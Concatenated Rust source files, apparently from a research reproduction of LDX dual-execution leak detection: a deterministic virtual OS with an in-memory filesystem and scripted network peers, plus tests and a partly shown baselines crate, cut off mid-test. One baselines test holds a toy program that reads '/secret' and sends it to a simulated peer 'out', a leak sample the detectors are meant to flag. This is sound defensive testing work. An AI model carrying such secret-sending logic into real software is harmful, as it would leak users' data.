                    FdEntry::Client { index } => {
                        let index = *index;
                        self.net.clients[index].responses.push(data.clone());
                        Ok(SysRet::Int(data.chars().count() as i64))
                    }
                    FdEntry::Closed => Ok(SysRet::Int(-1)),
                }
            }
            Syscall::Close => {
                let fd = args[0].as_int("close")?;
                if let Some(entry) = self.fd_entry(fd) {
                    *entry = FdEntry::Closed;
                    Ok(SysRet::Int(0))
                } else {
                    Ok(SysRet::Int(-1))
                }
            }
            Syscall::Seek => {
                let fd = args[0].as_int("seek")?;
                let to = args[1].as_int("seek")?.max(0) as usize;
                match self.fd_entry(fd) {
                    Some(FdEntry::File { pos, .. }) => {
                        *pos = to;
                        Ok(SysRet::Int(0))
                    }
                    _ => Ok(SysRet::Int(-1)),
                }
            }
            Syscall::Stat => {
                let path = args[0].as_str("stat")?;
                match self.fs.get(path) {
                    Some(Node::File(data)) => Ok(SysRet::Int(data.chars().count() as i64)),
                    Some(Node::Dir(_)) => Ok(SysRet::Int(0)),
                    None => Ok(SysRet::Int(-1)),
                }
            }
            Syscall::Mkdir => {
                let path = args[0].as_str("mkdir")?;
                Ok(SysRet::Int(if self.fs.mkdir(path) { 0 } else { -1 }))
            }
            Syscall::Unlink => {
                let path = args[0].as_str("unlink")?;
                Ok(SysRet::Int(if self.fs.remove(path).is_some() {
                    0
                } else {
                    -1
                }))
            }
            Syscall::Rename => {
                let from = args[0].as_str("rename")?;
                let to = args[1].as_str("rename")?.to_string();
                Ok(SysRet::Int(if self.fs.rename(from, &to) { 0 } else { -1 }))
            }
            Syscall::Readdir => {
                let path = args[0].as_str("readdir")?;
                match self.fs.readdir(path) {
                    Some(names) => Ok(SysRet::Str(names.join("\n"))),
                    None => Ok(SysRet::Str(String::new())),
                }
            }
            Syscall::Connect => {
                let host = args[0].as_str("connect")?.to_string();
                if self.net.peers.contains_key(&host) {
                    Ok(SysRet::Int(self.alloc_fd(FdEntry::Peer { host })))
                } else {
                    Ok(SysRet::Int(-1))
                }
            }
            Syscall::Send => self.syscall(Syscall::Write, args),
            Syscall::Recv => self.syscall(Syscall::Read, args),
            Syscall::Accept => {
                let port = args[0].as_int("accept")?;
                match self.net.accept(port) {
                    Some(index) => Ok(SysRet::Int(self.alloc_fd(FdEntry::Client { index }))),
                    None => Ok(SysRet::Int(-1)),
                }
            }
            Syscall::GetPid => Ok(SysRet::Int(self.pid)),
            Syscall::Time => {
                let now = self.clock;
                self.clock += self.clock_step;
                Ok(SysRet::Int(now))
            }
            Syscall::Random => {
                // xorshift64*.
                let mut x = self.rng;
                x ^= x >> 12;
                x ^= x << 25;
                x ^= x >> 27;
                self.rng = x;
                Ok(SysRet::Int(
                    (x.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 1) as i64,
                ))
            }
            Syscall::Sleep => {
                let n = args[0].as_int("sleep")?;
                self.clock += n.max(0);
                Ok(SysRet::Int(0))
            }
            Syscall::Lock
            | Syscall::Unlock
            | Syscall::Spawn
            | Syscall::Join
            | Syscall::Exit
            | Syscall::Setjmp
            | Syscall::Longjmp => Err(VosError::Unsupported {
                syscall: sys.name(),
            }),
        }
    }

    fn append_file(&mut self, path: &str, data: &str) {
        match self.fs.get_mut(path) {
            Some(Node::File(existing)) => existing.push_str(data),
            _ => {
                self.fs.insert(path, Node::File(data.to_string()));
            }
        }
    }

    // ------- Inspection and cloning APIs (used by the overlay, the
    // dual-execution engine's resource tainting, and tests).

    /// The contents of the file at `path`, if it exists.
    pub fn file_contents(&self, path: &str) -> Option<String> {
        match self.fs.get(path) {
            Some(Node::File(data)) => Some(data.clone()),
            _ => None,
        }
    }

    /// Clones the node at `path` (file or whole directory).
    pub fn clone_node(&self, path: &str) -> Option<Node> {
        self.fs.get(path).cloned()
    }

    /// Installs `node` at `path` (the overlay's copy-on-divergence hook).
    pub fn install_node(&mut self, path: &str, node: Node) -> bool {
        self.fs.insert(path, node)
    }

    /// Removes the node at `path` (tombstone support for the overlay).
    pub fn remove_node(&mut self, path: &str) -> bool {
        self.fs.remove(path).is_some()
    }

    /// Everything the program has sent to `host`, in order.
    pub fn sent_to(&self, host: &str) -> Vec<String> {
        self.net
            .peers
            .get(host)
            .map(|p| p.sent.clone())
            .unwrap_or_default()
    }

    /// Snapshot of a peer's full state (for overlay cloning).
    pub fn peer_snapshot(&self, host: &str) -> Option<PeerState> {
        self.net.peers.get(host).cloned()
    }

    /// Replaces a peer's state (overlay hook).
    pub fn install_peer(&mut self, host: &str, state: PeerState) {
        self.net.peers.insert(host.to_string(), state);
    }

    /// Responses the server sent to accepted client `i` (accept order).
    pub fn client_responses(&self, i: usize) -> Vec<String> {
        self.net
            .clients
            .get(i)
            .map(|c| c.responses.clone())
            .unwrap_or_default()
    }

    /// Number of accepted client connections so far.
    pub fn accepted_clients(&self) -> usize {
        self.net.clients.len()
    }

    /// Current virtual clock value (without advancing it).
    pub fn clock(&self) -> i64 {
        self.clock
    }
}

/// Reads up to `n` characters of `data` starting at char offset `start`.
fn read_chars(data: &str, start: usize, n: usize) -> String {
    data.chars().skip(start).take(n).collect()
}

/// Removes and returns up to `n` characters from the front of `s`.
fn take_chars(s: &mut String, n: usize) -> String {
    let end = s.char_indices().nth(n).map(|(i, _)| i).unwrap_or(s.len());
    let head = s[..end].to_string();
    s.drain(..end);
    head
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::PeerBehavior;

    fn world() -> VosState {
        VosState::build(
            &VosConfig::new()
                .file("/data/input.txt", "hello world")
                .dir("/out")
                .peer("remote", PeerBehavior::Echo)
                .listen(80, vec!["GET /index".into()]),
        )
    }

    fn s(v: &str) -> SysArg {
        SysArg::Str(v.into())
    }
    fn i(v: i64) -> SysArg {
        SysArg::Int(v)
    }

    #[test]
    fn open_read_close_roundtrip() {
        let mut w = world();
        let SysRet::Int(fd) = w
            .syscall(Syscall::Open, &[s("/data/input.txt"), i(0)])
            .unwrap()
        else {
            panic!()
        };
        assert!(fd >= 3);
        let SysRet::Str(data) = w.syscall(Syscall::Read, &[i(fd), i(5)]).unwrap() else {
            panic!()
        };
        assert_eq!(data, "hello");
        let SysRet::Str(rest) = w.syscall(Syscall::Read, &[i(fd), i(100)]).unwrap() else {
            panic!()
        };
        assert_eq!(rest, " world");
        assert_eq!(w.syscall(Syscall::Close, &[i(fd)]).unwrap(), SysRet::Int(0));
        assert_eq!(
            w.syscall(Syscall::Close, &[i(fd)]).unwrap(),
            SysRet::Int(-1),
            "double close fails"
        );
    }

    #[test]
    fn open_missing_file_fails() {
        let mut w = world();
        assert_eq!(
            w.syscall(Syscall::Open, &[s("/nope"), i(0)]).unwrap(),
            SysRet::Int(-1)
        );
    }

    #[test]
    fn write_creates_and_appends() {
        let mut w = world();
        let SysRet::Int(fd) = w.syscall(Syscall::Open, &[s("/out/log"), i(1)]).unwrap() else {
            panic!()
        };
        w.syscall(Syscall::Write, &[i(fd), s("one")]).unwrap();
        w.syscall(Syscall::Write, &[i(fd), s("two")]).unwrap();
        assert_eq!(w.file_contents("/out/log").unwrap(), "onetwo");
        // Reopen with truncate.
        let SysRet::Int(fd2) = w.syscall(Syscall::Open, &[s("/out/log"), i(1)]).unwrap() else {
            panic!()
        };
        w.syscall(Syscall::Write, &[i(fd2), s("fresh")]).unwrap();
        assert_eq!(w.file_contents("/out/log").unwrap(), "fresh");
    }

    #[test]
    fn append_mode_keeps_existing() {
        let mut w = world();
        let SysRet::Int(fd) = w
            .syscall(Syscall::Open, &[s("/data/input.txt"), i(2)])
            .unwrap()
        else {
            panic!()
        };
        w.syscall(Syscall::Write, &[i(fd), s("!")]).unwrap();
        assert_eq!(w.file_contents("/data/input.txt").unwrap(), "hello world!");
    }

    #[test]
    fn reading_from_readonly_write_fails() {
        let mut w = world();
        let SysRet::Int(fd) = w
            .syscall(Syscall::Open, &[s("/data/input.txt"), i(0)])
            .unwrap()
        else {
            panic!()
        };
        assert_eq!(
            w.syscall(Syscall::Write, &[i(fd), s("x")]).unwrap(),
            SysRet::Int(-1)
        );
    }

    #[test]
    fn stdio_writes_are_captured() {
        let mut w = world();
        w.syscall(Syscall::Write, &[i(1), s("out")]).unwrap();
        w.syscall(Syscall::Write, &[i(2), s("err")]).unwrap();
        assert_eq!(w.file_contents("/dev/stdout").unwrap(), "out");
        assert_eq!(w.file_contents("/dev/stderr").unwrap(), "err");
        // stdin reads are empty.
        assert_eq!(
            w.syscall(Syscall::Read, &[i(0), i(4)]).unwrap(),
            SysRet::Str(String::new())
        );
    }

    #[test]
    fn seek_repositions() {
        let mut w = world();
        let SysRet::Int(fd) = w
            .syscall(Syscall::Open, &[s("/data/input.txt"), i(0)])
            .unwrap()
        else {
            panic!()
        };
        w.syscall(Syscall::Seek, &[i(fd), i(6)]).unwrap();
        let SysRet::Str(data) = w.syscall(Syscall::Read, &[i(fd), i(5)]).unwrap() else {
            panic!()
        };
        assert_eq!(data, "world");
    }

    #[test]
    fn stat_mkdir_unlink_rename_readdir() {
        let mut w = world();
        assert_eq!(
            w.syscall(Syscall::Stat, &[s("/data/input.txt")]).unwrap(),
            SysRet::Int(11)
        );
        assert_eq!(
            w.syscall(Syscall::Stat, &[s("/out")]).unwrap(),
            SysRet::Int(0)
        );
        assert_eq!(
            w.syscall(Syscall::Stat, &[s("/gone")]).unwrap(),
            SysRet::Int(-1)
        );
        assert_eq!(
            w.syscall(Syscall::Mkdir, &[s("/tmp2")]).unwrap(),
            SysRet::Int(0)
        );
        assert_eq!(
            w.syscall(Syscall::Rename, &[s("/data/input.txt"), s("/tmp2/in")])
                .unwrap(),
            SysRet::Int(0)
        );
        assert_eq!(
            w.syscall(Syscall::Readdir, &[s("/tmp2")]).unwrap(),
            SysRet::Str("in".into())
        );
        assert_eq!(
            w.syscall(Syscall::Unlink, &[s("/tmp2/in")]).unwrap(),
            SysRet::Int(0)
        );
        assert_eq!(
            w.syscall(Syscall::Unlink, &[s("/tmp2/in")]).unwrap(),
            SysRet::Int(-1)
        );
    }

    #[test]
    fn connect_send_recv_echo() {
        let mut w = world();
        let SysRet::Int(sock) = w.syscall(Syscall::Connect, &[s("remote")]).unwrap() else {
            panic!()
        };
        assert!(sock >= 3);
        w.syscall(Syscall::Send, &[i(sock), s("ping")]).unwrap();
        assert_eq!(
            w.syscall(Syscall::Recv, &[i(sock), i(10)]).unwrap(),
            SysRet::Str("ping".into())
        );
        assert_eq!(w.sent_to("remote"), vec!["ping"]);
        assert_eq!(
            w.syscall(Syscall::Connect, &[s("unknown-host")]).unwrap(),
            SysRet::Int(-1)
        );
    }

    #[test]
    fn accept_serves_scripted_clients() {
        let mut w = world();
        let SysRet::Int(conn) = w.syscall(Syscall::Accept, &[i(80)]).unwrap() else {
            panic!()
        };
        assert!(conn >= 3);
        let SysRet::Str(req) = w.syscall(Syscall::Recv, &[i(conn), i(64)]).unwrap() else {
            panic!()
        };
        assert_eq!(req, "GET /index");
        w.syscall(Syscall::Send, &[i(conn), s("200 OK")]).unwrap();
        assert_eq!(w.client_responses(0), vec!["200 OK"]);
        assert_eq!(
            w.syscall(Syscall::Accept, &[i(80)]).unwrap(),
            SysRet::Int(-1)
        );
    }

    #[test]
    fn time_advances_and_random_is_deterministic() {
        let mut w1 = world();
        let mut w2 = world();
        let t1 = w1.syscall(Syscall::Time, &[]).unwrap();
        let t2 = w1.syscall(Syscall::Time, &[]).unwrap();
        assert_ne!(t1, t2);
        let r1 = w1.syscall(Syscall::Random, &[]).unwrap();
        w2.syscall(Syscall::Time, &[]).unwrap();
        w2.syscall(Syscall::Time, &[]).unwrap();
        let r2 = w2.syscall(Syscall::Random, &[]).unwrap();
        assert_eq!(r1, r2, "same seed, same stream");
        w1.syscall(Syscall::Sleep, &[i(100)]).unwrap();
        assert!(w1.clock() > w2.clock());
    }

    #[test]
    fn getpid_is_stable() {
        let mut w = world();
        assert_eq!(w.syscall(Syscall::GetPid, &[]).unwrap(), SysRet::Int(4242));
    }

    #[test]
    fn type_misuse_is_an_error() {
        let mut w = world();
        assert!(w.syscall(Syscall::Open, &[i(1), i(0)]).is_err());
        assert!(w.syscall(Syscall::Read, &[s("x"), i(1)]).is_err());
    }

    #[test]
    fn runtime_owned_syscalls_rejected() {
        let mut w = world();
        assert!(matches!(
            w.syscall(Syscall::Spawn, &[]),
            Err(VosError::Unsupported { .. })
        ));
        assert!(w.syscall(Syscall::Lock, &[i(0)]).is_err());
    }

    #[test]
    fn fd_reuse_after_close() {
        let mut w = world();
        let SysRet::Int(fd1) = w
            .syscall(Syscall::Open, &[s("/data/input.txt"), i(0)])
            .unwrap()
        else {
            panic!()
        };
        w.syscall(Syscall::Close, &[i(fd1)]).unwrap();
        let SysRet::Int(fd2) = w
            .syscall(Syscall::Open, &[s("/data/input.txt"), i(0)])
            .unwrap()
        else {
            panic!()
        };
        assert_eq!(fd1, fd2, "closed descriptor slot is reused");
    }

    #[test]
    fn syscall_count_increments() {
        let mut w = world();
        let before = w.syscall_count;
        w.syscall(Syscall::GetPid, &[]).unwrap();
        w.syscall(Syscall::Time, &[]).unwrap();
        assert_eq!(w.syscall_count, before + 2);
    }
}
