//! A hermetic virtual OS for the LDX reproduction.
//!
//! The paper's runtime intercepts Linux syscalls; this crate substitutes an
//! in-memory world with the same observable structure so the whole system
//! is deterministic and testable:
//!
//! * a **virtual filesystem** with directories, file descriptors, and the
//!   rename/unlink/mkdir operations the paper's resource-tainting rules
//!   (§7) are defined over;
//! * **scripted network peers** standing in for remote hosts (servers the
//!   program connects to) and scripted *clients* for programs that accept
//!   connections;
//! * a **virtual clock**, **PID**, and deterministic **entropy** — the
//!   nondeterministic inputs whose outcomes the slave reuses from the
//!   master (like `rdtsc` in the paper);
//! * a **copy-on-divergence overlay** ([`SlaveVos`]): when the dual
//!   executions diverge, the slave performs its decoupled syscalls against
//!   clones of the affected resources so it never interferes with the
//!   master's world (paper §7 "Light-weight Resource Tainting").
//!
//! The crate deliberately knows nothing about dual execution itself; it
//! only provides interceptable syscalls with recordable outcomes. The
//! coupling protocol lives in `ldx-dualex`.

mod config;
mod error;
mod fs;
mod net;
mod overlay;
mod state;
mod world;

pub use config::{PeerBehavior, VosConfig};
pub use error::VosError;
pub use fs::{normalize_path, Node};
pub use overlay::SlaveVos;
pub use state::{SysArg, SysRet, VosState};
pub use world::Vos;
