//! The virtual filesystem tree.

use std::collections::BTreeMap;

/// A filesystem node: a file with contents or a directory of children.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Node {
    /// A regular file.
    File(String),
    /// A directory mapping names to child nodes.
    Dir(BTreeMap<String, Node>),
}

impl Node {
    /// An empty directory.
    pub fn empty_dir() -> Node {
        Node::Dir(BTreeMap::new())
    }

    /// The file contents, if this is a file.
    pub fn as_file(&self) -> Option<&str> {
        match self {
            Node::File(data) => Some(data),
            Node::Dir(_) => None,
        }
    }
}

/// Normalizes a path into its segments: leading/trailing/duplicate slashes
/// are ignored, `.` segments are dropped, and `..` pops (never above root).
pub fn normalize_path(path: &str) -> Vec<String> {
    let mut segs: Vec<String> = Vec::new();
    for seg in path.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                segs.pop();
            }
            s => segs.push(s.to_string()),
        }
    }
    segs
}

/// The filesystem: a root directory.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fs {
    root: Node,
}

impl Default for Fs {
    fn default() -> Self {
        Fs::new()
    }
}

impl Fs {
    /// An empty filesystem.
    pub fn new() -> Self {
        Fs {
            root: Node::empty_dir(),
        }
    }

    /// Looks up the node at `path`.
    pub fn get(&self, path: &str) -> Option<&Node> {
        let segs = normalize_path(path);
        let mut cur = &self.root;
        for seg in &segs {
            match cur {
                Node::Dir(children) => cur = children.get(seg)?,
                Node::File(_) => return None,
            }
        }
        Some(cur)
    }

    /// Mutable lookup.
    pub fn get_mut(&mut self, path: &str) -> Option<&mut Node> {
        let segs = normalize_path(path);
        let mut cur = &mut self.root;
        for seg in &segs {
            match cur {
                Node::Dir(children) => cur = children.get_mut(seg)?,
                Node::File(_) => return None,
            }
        }
        Some(cur)
    }

    /// Inserts (or replaces) `node` at `path`, creating parent directories.
    /// Fails (returns `false`) if a parent path component is a file, or the
    /// path is the root.
    pub fn insert(&mut self, path: &str, node: Node) -> bool {
        let segs = normalize_path(path);
        let Some((last, parents)) = segs.split_last() else {
            return false;
        };
        let mut cur = &mut self.root;
        for seg in parents {
            let Node::Dir(children) = cur else {
                return false;
            };
            cur = children.entry(seg.clone()).or_insert_with(Node::empty_dir);
        }
        match cur {
            Node::Dir(children) => {
                children.insert(last.clone(), node);
                true
            }
            Node::File(_) => false,
        }
    }

    /// Removes and returns the node at `path` (file or whole directory).
    pub fn remove(&mut self, path: &str) -> Option<Node> {
        let segs = normalize_path(path);
        let (last, parents) = segs.split_last()?;
        let mut cur = &mut self.root;
        for seg in parents {
            match cur {
                Node::Dir(children) => cur = children.get_mut(seg)?,
                Node::File(_) => return None,
            }
        }
        match cur {
            Node::Dir(children) => children.remove(last),
            Node::File(_) => None,
        }
    }

    /// Creates an empty directory at `path` if nothing exists there.
    /// Returns `false` if the path exists already or a parent is a file.
    pub fn mkdir(&mut self, path: &str) -> bool {
        if self.get(path).is_some() {
            return false;
        }
        self.insert(path, Node::empty_dir())
    }

    /// Lists the entry names of the directory at `path`.
    pub fn readdir(&self, path: &str) -> Option<Vec<String>> {
        match self.get(path) {
            Some(Node::Dir(children)) => Some(children.keys().cloned().collect()),
            _ => None,
        }
    }

    /// Renames `from` to `to`. Returns `false` if `from` does not exist or
    /// `to`'s parent is invalid.
    pub fn rename(&mut self, from: &str, to: &str) -> bool {
        let Some(node) = self.remove(from) else {
            return false;
        };
        if self.insert(to, node.clone()) {
            true
        } else {
            // Roll back on failure.
            self.insert(from, node);
            false
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn normalize_handles_dots_and_slashes() {
        assert_eq!(normalize_path("/a//b/./c/"), vec!["a", "b", "c"]);
        assert_eq!(normalize_path("a/../b"), vec!["b"]);
        assert_eq!(normalize_path("../a"), vec!["a"]);
        assert!(normalize_path("/").is_empty());
    }

    #[test]
    fn insert_and_get_file() {
        let mut fs = Fs::new();
        assert!(fs.insert("/etc/conf", Node::File("x=1".into())));
        assert_eq!(fs.get("/etc/conf").unwrap().as_file(), Some("x=1"));
        assert_eq!(fs.get("etc/conf").unwrap().as_file(), Some("x=1"));
        assert!(fs.get("/etc/missing").is_none());
    }

    #[test]
    fn insert_creates_parents() {
        let mut fs = Fs::new();
        assert!(fs.insert("/a/b/c/file", Node::File("".into())));
        assert!(matches!(fs.get("/a/b"), Some(Node::Dir(_))));
    }

    #[test]
    fn cannot_insert_under_file() {
        let mut fs = Fs::new();
        fs.insert("/f", Node::File("data".into()));
        assert!(!fs.insert("/f/child", Node::File("".into())));
        assert!(!fs.insert("/", Node::File("".into())));
    }

    #[test]
    fn mkdir_and_readdir() {
        let mut fs = Fs::new();
        assert!(fs.mkdir("/logs"));
        assert!(!fs.mkdir("/logs"), "mkdir on existing path fails");
        fs.insert("/logs/a.txt", Node::File("1".into()));
        fs.insert("/logs/b.txt", Node::File("2".into()));
        assert_eq!(fs.readdir("/logs").unwrap(), vec!["a.txt", "b.txt"]);
        assert!(fs.readdir("/logs/a.txt").is_none());
        assert!(fs.readdir("/missing").is_none());
    }

    #[test]
    fn remove_file_and_dir() {
        let mut fs = Fs::new();
        fs.insert("/d/f", Node::File("x".into()));
        assert!(fs.remove("/d/f").is_some());
        assert!(fs.get("/d/f").is_none());
        assert!(fs.get("/d").is_some());
        assert!(fs.remove("/d").is_some());
        assert!(fs.remove("/d").is_none());
    }

    #[test]
    fn rename_moves_node() {
        let mut fs = Fs::new();
        fs.insert("/a", Node::File("data".into()));
        assert!(fs.rename("/a", "/b/c"));
        assert!(fs.get("/a").is_none());
        assert_eq!(fs.get("/b/c").unwrap().as_file(), Some("data"));
        assert!(!fs.rename("/missing", "/x"));
    }

    #[test]
    fn rename_rolls_back_on_bad_target() {
        let mut fs = Fs::new();
        fs.insert("/src", Node::File("keep".into()));
        fs.insert("/blocker", Node::File("".into()));
        assert!(!fs.rename("/src", "/blocker/child"));
        assert_eq!(fs.get("/src").unwrap().as_file(), Some("keep"));
    }

    #[test]
    fn root_is_a_directory() {
        let fs = Fs::new();
        assert!(matches!(fs.get("/"), Some(Node::Dir(_))));
        assert!(fs.readdir("").unwrap().is_empty());
    }
}
