//! Scripted network peers and clients.
//!
//! The paper evaluates on network programs (nginx, lynx, ngircd, …) whose
//! remote ends we cannot reproduce; each remote is replaced by a
//! deterministic script (see DESIGN.md substitution table). Peers are the
//! hosts a program `connect`s to; clients are the scripted request streams
//! a server program `accept`s.

use crate::config::PeerBehavior;
use std::collections::BTreeMap;

/// Runtime state of one outbound peer (a host the program connects to).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PeerState {
    behavior: PeerBehavior,
    /// Everything the program has sent to this host, per connection.
    pub sent: Vec<String>,
    /// Position in a `Script` behavior.
    script_pos: usize,
    /// Pending bytes the program can `recv`.
    pending: String,
}

impl PeerState {
    /// Creates peer state from its configured behavior.
    pub fn new(behavior: PeerBehavior) -> Self {
        PeerState {
            behavior,
            sent: Vec::new(),
            script_pos: 0,
            pending: String::new(),
        }
    }

    /// Handles a `send` from the program; may queue response bytes.
    pub fn on_send(&mut self, data: &str) {
        self.sent.push(data.to_string());
        match &self.behavior {
            PeerBehavior::Echo => self.pending.push_str(data),
            PeerBehavior::Script(_) => {}
            PeerBehavior::Respond(map) => {
                if let Some(resp) = map.get(data) {
                    self.pending.push_str(resp);
                }
            }
        }
    }

    /// Handles a `recv` of up to `n` bytes; returns `""` at end of stream.
    pub fn on_recv(&mut self, n: usize) -> String {
        if self.pending.is_empty() {
            if let PeerBehavior::Script(lines) = &self.behavior {
                if self.script_pos < lines.len() {
                    self.pending.push_str(&lines[self.script_pos]);
                    self.script_pos += 1;
                }
            }
        }
        take_prefix(&mut self.pending, n)
    }
}

/// Takes up to `n` characters (by char boundary) off the front of `s`.
fn take_prefix(s: &mut String, n: usize) -> String {
    let end = s.char_indices().nth(n).map(|(i, _)| i).unwrap_or(s.len());
    let head: String = s[..end].to_string();
    s.drain(..end);
    head
}

/// Runtime state of one scripted inbound client connection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ClientConn {
    /// Bytes the server can still `recv` from this client.
    pub pending: String,
    /// Everything the server `send`s back.
    pub responses: Vec<String>,
}

/// All network state: outbound peers plus per-port accept queues.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Net {
    /// Peers by host name.
    pub peers: BTreeMap<String, PeerState>,
    /// Scripted client requests not yet accepted, per port.
    pub backlog: BTreeMap<i64, Vec<String>>,
    /// Accepted client connections (socket side), appended in accept order.
    pub clients: Vec<ClientConn>,
}

impl Net {
    /// Accepts the next scripted client on `port`; returns its index into
    /// `clients`, or `None` if the backlog is empty or the port unknown.
    pub fn accept(&mut self, port: i64) -> Option<usize> {
        let queue = self.backlog.get_mut(&port)?;
        if queue.is_empty() {
            return None;
        }
        let request = queue.remove(0);
        self.clients.push(ClientConn {
            pending: request,
            responses: Vec::new(),
        });
        Some(self.clients.len() - 1)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn echo_peer_echoes() {
        let mut p = PeerState::new(PeerBehavior::Echo);
        p.on_send("hello");
        assert_eq!(p.on_recv(3), "hel");
        assert_eq!(p.on_recv(10), "lo");
        assert_eq!(p.on_recv(10), "");
        assert_eq!(p.sent, vec!["hello"]);
    }

    #[test]
    fn script_peer_ignores_sends_and_plays_lines() {
        let mut p = PeerState::new(PeerBehavior::Script(vec!["first".into(), "second".into()]));
        p.on_send("anything");
        assert_eq!(p.on_recv(16), "first");
        assert_eq!(p.on_recv(3), "sec");
        assert_eq!(p.on_recv(16), "ond");
        assert_eq!(p.on_recv(16), "");
    }

    #[test]
    fn respond_peer_matches_requests() {
        let mut map = BTreeMap::new();
        map.insert("GET /".to_string(), "index".to_string());
        let mut p = PeerState::new(PeerBehavior::Respond(map));
        p.on_send("GET /");
        assert_eq!(p.on_recv(16), "index");
        p.on_send("GET /missing");
        assert_eq!(p.on_recv(16), "");
    }

    #[test]
    fn accept_pops_backlog_in_order() {
        let mut net = Net::default();
        net.backlog.insert(80, vec!["req1".into(), "req2".into()]);
        let a = net.accept(80).unwrap();
        let b = net.accept(80).unwrap();
        assert_eq!(net.clients[a].pending, "req1");
        assert_eq!(net.clients[b].pending, "req2");
        assert_eq!(net.accept(80), None);
        assert_eq!(net.accept(99), None);
    }

    #[test]
    fn take_prefix_respects_char_boundaries() {
        let mut s = "héllo".to_string();
        assert_eq!(take_prefix(&mut s, 2), "hé");
        assert_eq!(s, "llo");
    }
}
