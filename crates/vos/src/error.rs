//! Virtual OS error type.

use std::error::Error;
use std::fmt;

/// A *misuse* of the virtual OS interface (wrong argument type or an
/// unsupported syscall routed here).
///
/// Ordinary failures a Unix program expects — missing file, bad descriptor —
/// are **not** errors; they surface as `-1` / `""` return values exactly
/// like errno-style C interfaces, because Lx programs test for them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum VosError {
    /// An argument had the wrong type (e.g. a string where an fd int is
    /// expected). Indicates a bug in the Lx program; the runtime traps.
    BadArgument {
        /// The syscall's name.
        syscall: &'static str,
        /// Description of the problem.
        detail: String,
    },
    /// A syscall that the virtual OS does not implement was routed to it
    /// (thread and process control are handled by the runtime instead).
    Unsupported {
        /// The syscall's name.
        syscall: &'static str,
    },
}

impl fmt::Display for VosError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            VosError::BadArgument { syscall, detail } => {
                write!(f, "bad argument to `{syscall}`: {detail}")
            }
            VosError::Unsupported { syscall } => {
                write!(f, "syscall `{syscall}` is not handled by the virtual OS")
            }
        }
    }
}

impl Error for VosError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_messages() {
        let e = VosError::BadArgument {
            syscall: "open",
            detail: "flags must be an integer".into(),
        };
        assert!(e.to_string().contains("open"));
        let u = VosError::Unsupported { syscall: "spawn" };
        assert!(u.to_string().contains("spawn"));
    }
}
