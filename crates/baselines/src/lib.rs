//! Comparison baselines for the LDX evaluation.
//!
//! * [`tightlip_execute`] — a TightLip-like doppelganger comparison with a
//!   positional tolerance window (paper Table 2's counterpart): it cannot
//!   align through path differences, so any nontrivial syscall divergence
//!   is reported as a potential leak;
//! * [`ei_dual_execute`] — a DualEx-like dual execution aligned by full
//!   execution indexing at instruction granularity (paper §9's
//!   three-orders-of-magnitude-slower comparison point);
//! * [`mutate_config`] — world-level source mutation used by both (the
//!   independent-execution equivalent of LDX's outcome mutation).

mod config_mutate;
mod eidualex;
mod tightlip;

pub use config_mutate::mutate_config;
pub use eidualex::{ei_dual_execute, EiReport};
pub use tightlip::{tightlip_execute, TightLipReport, WINDOW};

#[cfg(test)]
mod tests {
    use super::*;
    use ldx_dualex::{Mutation, SinkSpec, SourceMatcher, SourceSpec};
    use ldx_runtime::ExecConfig;
    use ldx_vos::{PeerBehavior, VosConfig};
    use std::sync::Arc;

    fn build(src: &str) -> Arc<ldx_ir::IrProgram> {
        Arc::new(
            ldx_instrument::instrument(&ldx_ir::lower(&ldx_lang::compile(src).unwrap()))
                .into_program(),
        )
    }

    /// Program whose *syscalls* differ under mutation but whose output is
    /// unchanged — LDX stays quiet, TightLip must (falsely) report.
    fn path_diff_no_leak() -> (Arc<ldx_ir::IrProgram>, VosConfig, Vec<SourceSpec>) {
        let p = build(
            r#"fn main() {
                let fd = open("/config", 0);
                let mode = trim(read(fd, 8));
                if (mode == "cache") {
                    let c = open("/cache", 0);
                    let d = read(c, 8);
                    close(c);
                } else {
                    let w = open("/cache", 1);
                    write(w, "data    ");
                    close(w);
                }
                send(connect("out"), "ok");
            }"#,
        );
        let cfg = VosConfig::new()
            .file("/config", "cache   ")
            .file("/cache", "data    ")
            .peer("out", PeerBehavior::Echo);
        let sources = vec![SourceSpec {
            matcher: SourceMatcher::FileRead("/config".into()),
            mutation: Mutation::Replace("rebuild ".into()),
        }];
        (p, cfg, sources)
    }

    #[test]
    fn tightlip_reports_on_path_difference_without_leak() {
        let (p, cfg, sources) = path_diff_no_leak();
        let r = tightlip_execute(
            p,
            &cfg,
            &sources,
            &SinkSpec::NetworkOut,
            ExecConfig::default(),
        );
        assert!(r.reported, "TightLip cannot align through path differences");
        assert!(r.first_divergence.is_some());
    }

    #[test]
    fn tightlip_quiet_when_streams_identical() {
        let p = build(
            r#"fn main() {
                let fd = open("/in", 0);
                let d = read(fd, 4);
                send(connect("out"), "fixed");
            }"#,
        );
        let cfg = VosConfig::new()
            .file("/in", "abcd")
            .peer("out", PeerBehavior::Echo);
        // Identity mutation: streams identical.
        let sources = vec![SourceSpec::file("/in").with_mutation(Mutation::Identity)];
        let r = tightlip_execute(
            p,
            &cfg,
            &sources,
            &SinkSpec::NetworkOut,
            ExecConfig::default(),
        );
        assert!(!r.reported, "{:?}", r.reason);
    }

    #[test]
    fn tightlip_detects_real_sink_difference() {
        let p = build(
            r#"fn main() {
                let fd = open("/secret", 0);
                let s = read(fd, 8);
                send(connect("out"), s);
            }"#,
        );
        let cfg = VosConfig::new()
            .file("/secret", "aaa")
            .peer("out", PeerBehavior::Echo);
        let r = tightlip_execute(
            p,
            &cfg,
            &[SourceSpec::file("/secret")],
            &SinkSpec::NetworkOut,
            ExecConfig::default(),
        );
        assert!(r.reported);
        assert!(r.reason.as_deref().unwrap_or("").contains("differ"));
    }

    #[test]
    fn tightlip_window_boundary() {
        // A benign divergence of exactly W extra *input* syscalls is
        // tolerated; W+2 extra falls off the window and is reported.
        let make = |extra: usize| {
            let reads: String = (0..extra)
